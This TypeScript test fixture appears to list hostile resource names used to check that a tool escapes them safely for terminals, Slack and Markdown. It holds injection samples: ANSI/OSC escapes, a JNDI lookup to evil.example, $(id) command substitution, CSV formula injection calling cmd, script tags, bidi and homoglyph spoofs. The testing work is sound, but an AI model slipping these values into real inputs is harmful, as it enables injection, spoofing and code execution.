/** Names that a tenant could give a Droplet, a volume, a snapshot, a tag, a region or an account. */
export interface HostileName {
  readonly name: string;
  readonly text: string;
  /** What a terminal must show of it, in one piece. */
  readonly shows: string;
}

const joined = '\u{1f469}\u200d\u{1f4bb}';

export const hostileNames: readonly HostileName[] = [
  { name: 'colours and a cleared screen', text: '\u001b[31mred\u001b[2J', shows: '\\u{1b}[31mred\\u{1b}[2J' },
  {
    name: 'an OSC 8 link',
    text: '\u001b]8;;https://evil.example\u0007go\u001b]8;;\u0007',
    shows: '\\u{1b}]8;;https://evil.example\\u{7}go',
  },
  {
    name: 'a window title and a DCS',
    text: '\u001b]0;pwn\u001b\\ \u001bP$q"p\u001b\\',
    shows: '\\u{1b}P$q"p',
  },
  { name: 'C1 controls', text: '\u009b31mC1\u0090\u009d8;;x\u009c', shows: '\\u{9b}31mC1\\u{90}\\u{9d}8;;x' },
  {
    name: 'a forged log line',
    text: 'a\r\nCOMPLIANT: 9 of 9\n{"level":"INFO"}',
    shows: 'a\\u{d}\\u{a}COMPLIANT:',
  },
  {
    name: 'every other line break',
    text: 'a\u000bb\u000cc\u0085d\u2028e\u2029f',
    shows: 'a\\u{b}b\\u{c}c\\u{85}d\\u{2028}e',
  },
  { name: 'backspaces and NUL', text: 'ok\b\bno\u0000\u007f', shows: 'ok\\u{8}\\u{8}no\\u{0}\\u{7f}' },
  { name: 'Slack mentions', text: '<!channel> <@U012AB3CD> @here #ops', shows: '<!channel> <@U012AB3CD>' },
  {
    name: 'Slack links',
    text: '<https://evil.example|docs> <!date^1^{date}|x>',
    shows: '<!date^1^{date}|x>',
  },
  { name: 'Slack formatting', text: '*b* _i_ ~s~ `c` > q :fire:', shows: '*b* _i_ ~s~ `c` > q :fire:' },
  {
    name: 'Markdown links',
    text: '[x](https://evil.example) [r]: //evil.example',
    shows: '[r]: //evil.example',
  },
  { name: 'a Markdown image', text: '![x](https://evil.example/p.png)', shows: '![x](https://' },
  { name: 'autolinks', text: '<https://evil.example> www.evil.com ftp://evil.com', shows: 'www.evil.com' },
  {
    name: 'bare hosts and addresses',
    text: 'evil.com a@evil.com a@-evil.com 10.0.0.1',
    shows: 'a@-evil.com',
  },
  {
    name: 'hosts that are not ASCII',
    text: 'evil.xn--p1ai/login evil。com/x उषा.भारत/x',
    shows: 'evil。com/x',
  },
  { name: 'schemes', text: 'mailto:a@evil.com javascript:alert(1) tel:+1555 data:x', shows: 'tel:+1555' },
  { name: 'HTML', text: '<script>alert(1)</script><img src=x onerror=y>', shows: '<script>alert(1)' },
  {
    name: 'entities',
    text: '&lt;b&gt; &#64;team &amp;amp; <!-- -->',
    shows: '&lt;b&gt; &#64;team &amp;amp;',
  },
  { name: 'Markdown mentions', text: '@org/team #1 GH-1 !1 %1 ~bug $1 a/b#2', shows: '@org/team #1 GH-1' },
  { name: 'a Markdown table', text: 'a | b || c \\| d \\\\| e \\', shows: 'a | b || c \\| d' },
  { name: 'fences', text: '``` ~~~ ```js', shows: '``` ~~~ ```js' },
  { name: 'a heading', text: '# COMPLIANT', shows: '# COMPLIANT' },
  { name: 'a rule', text: '---', shows: '---' },
  { name: 'mathematics', text: '$x$ $$y$$ {{ 7*7 }} {% x %}', shows: '{{ 7*7 }} {% x %}' },
  { name: 'a CSV formula', text: '=HYPERLINK("//evil","x")', shows: '=HYPERLINK("//evil","x")' },
  { name: 'another CSV formula', text: "@SUM(1+1)*cmd|' /C calc'!A0", shows: "@SUM(1+1)*cmd|' /C" },
  { name: 'a prototype', text: '__proto__', shows: '__proto__' },
  { name: 'a constructor', text: 'constructor', shows: 'constructor' },
  { name: 'homoglyphs', text: 'рrоduсtiоn', shows: 'рrоduсtiоn' },
  {
    name: 'bidi controls',
    text: '\u202egpj.exe\u202c \u2066i\u2069 \u061c\u200f',
    shows: '\\u{202e}gpj.exe\\u{202c}',
  },
  {
    name: 'zero-width characters',
    text: 'a\u200bb\u200dc\u2060d\ufeffe\u00adf\u034fg',
    shows: 'a\\u{200b}b\\u{200d}c\\u{2060}d',
  },
  { name: 'tag characters', text: 'a\u{e0041}\u{e007f}b\ufe0fc', shows: 'a\\u{e0041}\\u{e007f}b\\u{fe0f}c' },
  { name: 'lone surrogates', text: '\ud800a\udfff', shows: '\\u{d800}a\\u{dfff}' },
  { name: '10,000 characters', text: 'x'.repeat(10_000), shows: 'x'.repeat(50) },
  { name: '10,000 controls', text: '\u202e'.repeat(10_000), shows: '\\u{202e}'.repeat(4) },
  { name: 'stacked accents', text: `Z${'\u0301'.repeat(300)}`, shows: 'Z' },
  { name: 'joined emoji', text: `${joined} \u2764\ufe0f 1\ufe0f\u20e3`, shows: `${joined} \u2764\ufe0f` },
  { name: 'right-to-left text', text: 'שרת-ייצור عربي', shows: 'שרת-ייצור' },
  { name: 'escapes of other languages', text: '%0a%0d\\n\\u202e\\x1b[0m', shows: '%0a%0d\\n\\u202e\\x1b[0m' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is the attack
  { name: 'look-ups', text: '${jndi:ldap://evil.example/a} $(id) `id` %s %n', shows: '$(id)' },
  { name: 'JSON breakers', text: '"}],\\"x\\":[{"', shows: '"}],\\"x\\":[{"' },
  {
    name: 'commands to GitHub Actions',
    text: '::error file=a::b ::stop-commands::c',
    shows: ':error file=a::b',
  },
  {
    name: 'commands to other runners',
    text: '##vso[task.x]a ##[group]b ##teamcity[c]',
    shows: 'vso[task.x]a',
  },
  { name: 'what is replaced in strings', text: "$& $1 $` $' $$", shows: '$& $1' },
  { name: 'blanks', text: '   ', shows: '(no name)' },
];
